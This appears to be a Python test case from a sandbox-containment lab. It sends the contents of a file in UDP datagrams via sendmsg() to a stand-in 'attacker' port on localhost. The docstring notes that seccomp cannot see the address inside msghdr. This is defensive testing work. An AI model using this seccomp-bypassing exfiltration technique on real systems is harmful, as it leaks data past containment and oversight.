# lab:title: Exfiltration by UDP sendmsg() with an address
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ sendmsg
# adversary: --on network => CONTAINED network ~ sendmsg
# adversary: --off network => BROKE
"""The red team's F6 (n1): sendmsg() on an unconnected UDP socket names
its address inside struct msghdr, where no seccomp rule can look. The
attacker's listener takes TCP only, so with the network open nothing
arrives (BROKE); with No-network on, the namespace refuses the datagram,
and the lab must see that."""
import os
import socket
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    for i in range(0, len(body), 1024):
        s.sendmsg([body[i:i + 1024]], [], 0, ("127.0.0.1", u.port or 80))
    print("sent", len(body), "bytes", flush=True)
except OSError as e:
    print("refused:", e, flush=True)
